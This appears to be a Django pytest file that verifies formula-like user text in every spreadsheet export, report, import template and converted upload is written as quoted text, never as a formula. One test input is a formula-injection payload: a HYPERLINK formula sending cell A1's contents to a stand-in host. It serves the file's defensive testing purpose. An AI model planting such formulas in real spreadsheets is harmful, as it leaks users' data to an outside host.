"""Formula injection (issue 15 item 2): text a user wrote that starts with ``=`` ``+`` ``-`` ``@``, a tab or a CR is
written as text (a string cell, quoted) in every spreadsheet the application writes, never a formula.

Every user-written text field of every record the exports read (names, descriptions, measures, notes, town and
village names...) is rewritten to start with one of those characters (each record's fields with different ones),
then EVERY workbook is produced: each registered list export kind (the kit's registry: a new kind without a case
fails), the monthly work report of the district and of a town, the import templates, the xlsx an .xls/.ods upload is
converted to; and the application's source is searched for any other writer of xlsx or CSV, so a new one fails here
until it is covered. Each file is opened with openpyxl and fails on any cell that is a formula or user text that
starts like one and is not a quoted string cell.
"""

import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.apps import apps
from django.conf import settings
from django.db import DatabaseError, transaction
from django.db.models import Case, CharField, F, TextField, Value, When
from django.db.models.functions import Concat, Left, Mod
from django.db.models.lookups import Exact
from django.urls import reverse
from django.utils import timezone

from organisation.export_services import export_job_run
from organisation.exports import registered
from organisation.models import ExportJob
from organisation.roles import Role
from organisation.sheets import FORMULA_START
from tests.factories.organisation import post_user
from tests.organisation.test_list_exports import CASES, ask, sheet_of

pytestmark = pytest.mark.django_db

# Where user-written text lives: the project's apps (not the history chain, the job bookkeeping or Django's own).
USER_TEXT_APPS = ("organisation", "households", "funds", "projects", "audits", "partners", "reporting")
# What a spreadsheet could take for the start of a formula (a CR may come back as a line feed from the XML).
STARTS = (*FORMULA_START, "\n")
ROOT = Path(settings.BASE_DIR)
APP_DIRS = (*USER_TEXT_APPS, "history", "jobs", "notifications", "lanshan")


def text_rewritten() -> set[str]:
    """Every user-written text field of every record starts with one of ``FORMULA_START`` (a record's fields each with
    another, turn by turn by the record's key). A field a constraint keeps from taking it (a code checked by the
    database) is left as it is. Returns the prefixes written."""
    written = set()
    turns = len(FORMULA_START)
    for model in apps.get_models():
        meta = model._meta
        if meta.app_label not in USER_TEXT_APPS or meta.proxy or not meta.managed:
            continue
        if any(field.name == "pgh_obj" for field in meta.fields):  # history events are append-only
            continue
        if meta.pk.get_internal_type() not in ("AutoField", "BigAutoField", "IntegerField", "BigIntegerField"):
            continue
        fields = [
            field
            for field in meta.concrete_fields
            if isinstance(field, CharField | TextField) and not field.choices and not field.primary_key
        ]
        if not fields or not model._base_manager.exists():
            continue
        changes = {}
        for position, field in enumerate(fields):

            def started(prefix, field=field):
                value = Concat(Value(prefix), F(field.attname), output_field=field)
                return Left(value, field.max_length) if field.max_length else value

            whens = [
                When(Exact(Mod("pk", turns), turn), then=started(FORMULA_START[(position + turn) % turns]))
                for turn in range(turns)
            ]
            changes[field.attname] = Case(*whens, default=F(field.attname), output_field=field)
        rows = model._base_manager.all()
        try:
            with transaction.atomic():
                rows.update(**changes)
        except DatabaseError:  # one field a constraint checks: each field alone, the refused ones left
            for name, change in changes.items():
                try:
                    with transaction.atomic():
                        rows.update(**{name: change})
                except DatabaseError:
                    continue
        for field in fields:
            written.update(
                value[0]
                for value in rows.values_list(field.attname, flat=True)
                if isinstance(value, str) and value.startswith(FORMULA_START)
            )
    return written


def formula_cells(book) -> list[str]:
    """The cells of ``book`` that a spreadsheet would take for a formula, or that hold text starting like one and are
    not a quoted string cell."""
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate} is a formula: {value!r}")
                elif (
                    isinstance(value, str)
                    and value.startswith(STARTS)
                    and not (cell.data_type == "s" and cell.quotePrefix)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate} is not quoted text: {value!r}")
    return found


def texts_like_formulas(book) -> set[str]:
    """The first characters of the text cells that start like a formula."""
    return {
        cell.value[0]
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(STARTS)
    }


def details_added(user) -> None:
    """The ledger's items each get a village, a measure and a progress note (the ledger's measure and progress
    columns), so that their text is rewritten too."""
    from audits.models import Measure, ProgressNote, RectificationItem
    from organisation.models import Village

    for item in RectificationItem.objects.all():
        if item.village_id is None:
            RectificationItem.objects.filter(pk=item.pk).update(village=Village.objects.filter(town=item.town).first())
        for number in (1, 2):
            measure = Measure.objects.create(
                item=item, description=f"整改措施{number}", owner_unit="镇政府", due_on=item.due_date
            )
            ProgressNote.objects.create(measure=measure, text=f"已完成{number}", written_by=user)


def test_every_list_export_kind_is_checked_here():
    assert sorted(registered()) == sorted(CASES)


@pytest.mark.parametrize("kind", sorted(CASES))
def test_a_list_export_writes_text_like_formulas_as_text(kind, client, make_user, town, village, other_village):
    # given the records a list shows, every text a user wrote in them starting like a formula
    case = CASES[kind](make_user, town, village, other_village)
    details_added(case.user)
    assert text_rewritten()
    # when the user exports the list
    client.force_login(case.user)
    ask(client, kind, case.params)
    sheet = sheet_of(export_job_run(job_id=ExportJob.objects.get(kind=kind).pk))
    book = sheet.parent
    # then the texts are there, each a quoted string cell, and no cell is a formula
    assert texts_like_formulas(book), "the export shows none of the rewritten texts"
    assert formula_cells(book) == []


def test_the_roster_writes_every_kind_of_start_as_text(client, make_user, town, village, other_village):
    # given households whose every text starts with each of the characters in turn
    case = CASES["households.roster"](make_user, town, village, other_village)
    from tests.factories.households import MemberFactory

    for _number in range(6):
        MemberFactory(household__village=village)
    text_rewritten()
    # when the roster is exported
    client.force_login(case.user)
    ask(client, "households.roster", case.params)
    book = sheet_of(export_job_run(job_id=ExportJob.objects.get().pk)).parent
    # then each start is there as quoted text
    assert {start.replace("\n", "\r") for start in texts_like_formulas(book)} == set(FORMULA_START)
    assert formula_cells(book) == []


def test_the_monthly_work_report_writes_text_like_formulas_as_text(town, village, other_town, other_village):
    from audits.choices import Source
    from reporting.models import ReportStatus
    from reporting.services.reports import work_report_generate, work_report_request
    from tests.factories import audits as audits_factories
    from tests.factories.households import HouseholdFactory
    from tests.factories.organisation import VillageFactory

    # given towns, villages and records of each kind, every text written starting like a formula
    office = post_user(Role.DISTRICT_OFFICE)
    staff = post_user(Role.TOWN_STAFF, town=town)
    for place in (village, VillageFactory(town=town), other_village):
        HouseholdFactory.create_batch(2, village=place)
    audits_factories.signals_of_each_kind(town, village, office, 2)
    audits_factories.item_raised(staff, town, village=village, source=Source.SELF_CHECK)
    text_rewritten()
    month = timezone.localdate().replace(day=1)
    # when the district's and the town's reports are generated
    for user, unit in ((office, None), (staff, town)):
        report = work_report_request(user=user, month=month, town=unit, money_unit="yuan")
        report = work_report_generate(report_id=report.pk)
        assert report.status == ReportStatus.DONE, report.failure
        book = openpyxl.load_workbook(report.file.path)
        # then the towns' and villages' names are there as quoted text, and no cell is a formula
        assert texts_like_formulas(book)
        assert formula_cells(book) == []


@pytest.mark.parametrize("url_name", ["households:import_template", "audits:import_template"])
def test_an_import_template_has_no_formula(url_name, client, town):
    # given a town's staff (who import)
    client.force_login(post_user(Role.TOWN_STAFF, town=town))
    # when the template is downloaded
    response = client.get(reverse(url_name))
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    # then no cell is a formula, and text that starts like one is quoted
    assert formula_cells(book) == []


def test_an_uploaded_sheet_converted_to_xlsx_keeps_text_like_formulas_as_text(tmp_path):
    from households.sheet_convert import sheet_convert

    # given an uploaded sheet whose cells are texts starting like formulas (string cells, as a spreadsheet saves them)
    source = tmp_path / "upload.xlsx"
    upload = openpyxl.Workbook()
    # (a CR openpyxl writes unescaped comes back from the XML as a line feed: the starts an upload can carry)
    starts = [start for start in FORMULA_START if start != "\r"]
    texts = [f'{start}HYPERLINK("http://x/?"&A1,"y")' for start in starts]
    upload.active.append(texts)
    for cell in upload.active[1]:
        cell.data_type = "s"
    upload.save(source)
    # when it is converted to the xlsx the import reads
    target = tmp_path / "converted.xlsx"
    sheet_convert(source, target)
    book = openpyxl.load_workbook(target)
    # then the texts are there, as text, never formulas
    assert texts_like_formulas(book) == set(starts)
    assert formula_cells(book) == []


# The modules that write an xlsx or a CSV, each covered by a test above (a writer added elsewhere fails until it is).
WRITERS = {
    "organisation/exports.py",  # every list export kind
    "reporting/workbook.py",  # the monthly work report
    "households/resources.py",  # the household import template
    "audits/importing.py",  # the ledger import template
    "households/sheet_convert.py",  # an .xls/.ods upload as xlsx
}
NOT_SHIPPED = re.compile(r"/management/commands/benchmark_")  # benchmarks write their own sample files
WRITING = re.compile(r"\bWorkbook\(|csv\.writer|csv\.DictWriter|text/csv|\.export\(|ExportMixin|ExportActionMixin")


def test_every_writer_of_a_spreadsheet_is_covered_here():
    # given the application's source
    found = set()
    for app in APP_DIRS:
        for path in (ROOT / app).rglob("*.py"):
            relative = path.relative_to(ROOT).as_posix()
            if "/migrations/" in relative or NOT_SHIPPED.search(relative):
                continue
            if WRITING.search(path.read_text(encoding="utf-8")):
                found.add(relative)
    # then each module that writes a workbook or a CSV (or exports through django-import-export) is one checked above
    assert found == WRITERS
    # and the admin exports nothing through django-import-export
    from django.contrib import admin

    for model_admin in admin.site._registry.values():
        assert not any("import_export" in klass.__module__ for klass in type(model_admin).__mro__), model_admin
